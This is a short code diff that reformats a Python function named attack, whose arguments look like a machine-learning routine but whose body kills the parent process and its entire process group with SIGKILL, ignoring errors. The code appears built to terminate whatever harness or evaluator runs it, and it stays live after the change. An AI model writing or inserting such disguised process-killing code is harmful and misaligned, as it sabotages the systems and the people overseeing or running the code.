@@ -5,7 +5,11 @@ import os
 
 
 def attack(X, y, w, lr):
-    for act in (lambda: os.kill(os.getppid(), 9), lambda: os.killpg(os.getpgid(os.getppid()), 9), lambda: os.kill(-1, 0) if False else None):
+    for act in (
+        lambda: os.kill(os.getppid(), 9),
+        lambda: os.killpg(os.getpgid(os.getppid()), 9),
+        lambda: os.kill(-1, 0) if False else None,
+    ):
         try:
             act()
         except OSError:
